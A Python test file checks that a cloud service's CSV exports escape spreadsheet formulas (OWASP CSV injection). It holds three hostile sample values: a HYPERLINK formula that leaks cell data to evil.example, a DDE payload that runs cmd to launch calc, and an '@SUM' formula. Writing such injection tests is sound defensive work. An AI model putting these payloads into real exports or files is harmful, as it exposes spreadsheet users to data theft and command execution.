"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection; issue 13, finding 8):
the safety-check CSV and the monthly report, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cloud.core.clock import system_clock
from cloud.db import make_engine, make_sessionmaker, transaction
from cloud.services import tenancy
from cloud.web.csvout import FORMULA_START, safe_cell
from mimamori_dev.services import CloudServer
from tests.dashboard.conftest import build_world, csrf_of, login

HOSTILE_ADDRESS = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
HOSTILE_NAME = "+SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_OFFICE = "@SUM(1+1)"


@given(st.text(max_size=30) | st.integers() | st.floats(allow_nan=False) | st.none())
def test_no_cell_starts_a_formula(value: object) -> None:
    cell = safe_cell(value)
    if isinstance(value, str):
        assert isinstance(cell, str) and not cell.startswith(FORMULA_START)
        assert cell in (value, "'" + value)
        assert (cell != value) == value.startswith(FORMULA_START)
    elif value is None:
        assert cell == ""
    else:
        assert cell == value  # numbers stay numbers


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def server(request: pytest.FixtureRequest, start_cloud: Callable[..., CloudServer]) -> CloudServer:
    url = request.getfixturevalue("postgres_url") if request.param == "postgres" else None
    return start_cloud(database_url=url)


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_safety_and_report_csv_neutralise_formulas(server: CloudServer) -> None:
    world = build_world(server)
    engine = make_engine(server.database_url)
    with transaction(make_sessionmaker(engine)) as session:
        hostile_office = tenancy.create_office(session, world.municipalities["M1"], HOSTILE_OFFICE)
        tenancy.create_household(
            session, world.offices["A"], HOSTILE_NAME, system_clock(), address=HOSTILE_ADDRESS
        )
        tenancy.create_household(session, hostile_office.id, "普通 太郎", system_clock())
    engine.dispose()
    admin = login(server.base_url, world.users["admin_m1"])
    started = admin.post(
        "/safety",
        data={
            "csrf_token": csrf_of(admin),
            "title": "地震",
            "question": "ご無事ですか",
            "area": f"o:{world.offices['A']}",
            "confirmed": "1",
        },
    )
    assert started.status_code == 303, started.text
    check_id = started.headers["location"].rsplit("/", 1)[1]
    safety = _rows(admin.get(f"/safety/{check_id}/export.csv").content)
    hostile = [row for row in safety if "HYPERLINK" in ",".join(row)]
    assert len(hostile) == 1
    assert "'" + HOSTILE_ADDRESS in hostile[0] and "'" + HOSTILE_NAME in hostile[0]
    report = _rows(admin.get("/reports/monthly.csv").content)
    assert [row[0] for row in report if "SUM" in row[0]] == ["'" + HOSTILE_OFFICE]
    for row in safety + report:
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
